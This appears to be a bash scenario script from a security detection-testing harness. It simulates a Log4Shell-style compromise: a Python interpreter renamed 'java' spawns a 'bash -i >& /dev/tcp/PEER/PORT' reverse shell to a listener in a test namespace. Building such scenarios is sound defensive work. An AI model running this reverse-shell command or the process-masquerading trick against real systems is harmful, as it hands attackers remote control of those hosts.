#!/usr/bin/env bash
# Shell spawned by an application server: a process named `java` (a copy of the Python
# interpreter) runs `bash -c 'bash -i >& /dev/tcp/PEER/PORT 0>&1'`, as a Log4Shell-style
# exploit payload would, and the attacker in the namespace gets the shell.
. "$(dirname "$0")/../lib.sh"
scn_begin service-java-revshell T1059.004
[ -n "$SCN_PY" ] || scn_skip "python3 is not installed"
scn_attacker_listen 4460
mkdir -p "$SCN_WORK/jdk/bin"
cp "$(readlink -f "$SCN_PY")" "$SCN_WORK/jdk/bin/java"
"$SCN_WORK/jdk/bin/java" -c 'import subprocess,sys,time
subprocess.Popen(["/bin/bash","-c","bash -i >& /dev/tcp/%s/%s 0>&1" % (sys.argv[1], sys.argv[2])])
time.sleep(15)' "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
server=$!
scn_track $server
printf 'SCENARIO-INFO service_pid=%s\n' "$server"
scn_shell_finish
